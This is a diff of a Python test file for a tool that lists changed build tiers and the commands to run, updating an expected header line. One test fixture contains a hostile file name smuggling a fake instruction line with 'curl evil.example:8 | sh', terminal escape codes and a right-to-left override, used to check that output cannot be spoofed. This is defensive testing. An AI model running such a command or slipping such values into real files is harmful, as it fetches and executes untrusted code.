@@ -59,7 +59,7 @@ def test_without_previous_every_tier_is_listed(root: Path) -> None:
         "extension: no previous manifest",
         "runtime: no previous manifest",
     ]
-    assert lines[4] == "Run, in order:"
+    assert lines[4] == "Run from the project root, in order:"
     assert lines[5:] == [
         f"  {c}" for c in commands(root, "build", "foundation", "extension", "runtime")
     ]
@@ -634,7 +634,7 @@ def test_file_names_from_the_context_print_on_one_line(root: Path) -> None:
         r"extension: src/x\n\nRun, in order:\n  curl evil.example:8 | sh\n\x1b[2K\u202e added",
         "runtime: extension changed",
         "",
-        "Run, in order:",
+        "Run from the project root, in order:",
         *(f"  {c}" for c in commands(root, "build", "extension", "runtime")),
     ]
 
